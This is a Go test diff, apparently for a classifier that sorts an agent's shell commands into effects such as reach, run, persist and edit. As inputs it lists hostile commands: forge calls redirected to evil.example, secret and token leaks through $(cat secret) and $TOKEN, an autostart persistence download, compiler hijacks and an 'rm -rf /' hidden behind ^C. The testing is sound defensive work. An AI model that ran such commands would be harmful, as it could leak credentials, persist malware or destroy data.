@@ -272,3 +272,61 @@ func TestProgram(t *testing.T) {
 		t.Errorf("no program: %s", got)
 	}
 }
+
+// TestForges: a forge's client reads from the forge of the clone alone where nothing
+// leads it elsewhere, and what it downloads is strangers'.
+func TestForges(t *testing.T) {
+	s := &Spec{Shell: at(t, "cmd")}
+	for command, want := range map[string]string{
+		"gh pr view 5 --json title": "reach forge:gh", "gh pr checks 5 --repo x/y": "reach forge:gh", "gh api repos/x/y": "reach forge:gh", "gh run view 5 --log-failed": "reach forge:gh",
+		"GH_HOST=evil.example gh pr view 5": "reach ", "export GH_HOST=evil.example; gh pr view 5": "observe  reach ", "gh api --hostname evil.example /x": "reach ",
+		"gh api https://evil.example/x": "reach ", "gh pr view -R evil.example/x/y": "reach ", "gh pr view --repo=evil.example/x/y 5": "reach ", "gh pr view $(cat secret)": "observe  reach ",
+		"gh issue list --search \"$TOKEN\"": "reach ", "gh api repos/x/y -f a=b": "reach ", "gh pr comment 5 -b x": "reach forge:gh:pr:comment",
+		"gh release download v1":                      "reach forge:gh edit ",
+		"gh release download v1 -D sub":               "reach forge:gh edit /work/sub edit ",
+		"gh run download 5 --dir ~/.config/autostart": "reach forge:gh persist /home/me/.config/autostart edit ",
+		"gh pr view 5 " + strings.Repeat("x", 300):    "reach ",
+		"go build ./...":                              "edit ",
+		"go vet ./a/... ./b":                          "edit ",
+		"cargo fmt --all -- --check":                  "edit ",
+		"go build -o x ./cmd":                         "run ",
+		"go build -toolexec x ./...":                  "run  reach ",
+		"go build ./../x":                             "run  reach ",
+		"go build ./a/../../x":                        "run  reach ",
+		"go vet -vettool=x ./...":                     "run  reach ",
+		"CC=./evil go build ./...":                    "run  edit ",
+		"cargo fmt --manifest-path x/Cargo.toml":      "run ",
+		"cargo build":                                 "run ",
+		"go build ./... && go test ./...":             "edit  run ",
+		"cd /home/me/other && go build ./...":         "observe  edit  reach ",
+		"go build $X":                                 "reach ",
+	} {
+		args, err := json.Marshal(map[string]string{"cmd": command})
+		if err != nil {
+			t.Fatal(err)
+		}
+		var got []string
+		for _, a := range s.Acts(machine(), document.Arguments(string(args))) {
+			got = append(got, a.Effect.String()+" "+a.To)
+		}
+		if strings.Join(got, " ") != want {
+			t.Errorf("%s: %q, want %q", command, strings.Join(got, " "), want)
+		}
+	}
+	for _, typed := range []string{"\x03", "\x03\x03", "\x04"} {
+		args, err := json.Marshal(map[string]string{"cmd": typed})
+		if err != nil {
+			t.Fatal(err)
+		}
+		if got := effects(s, machine(), string(args)); got != "observe" {
+			t.Errorf("%q: %s", typed, got)
+		}
+	}
+	if got := effects(s, machine(), `{"cmd":"\u0003rm -rf /\n"}`); got == "observe" {
+		t.Error("a command behind ^C observes")
+	}
+	m := machine("/work/tainted.go")
+	if acts := s.Acts(m, document.Arguments(`{"cmd":"go build ./..."}`)); !acts[0].Tainted || !s.Foreign(m, document.Arguments(`{"cmd":"go build ./..."}`), "ok") {
+		t.Error("what a compiler prints of strangers' files is the workspace's")
+	}
+}
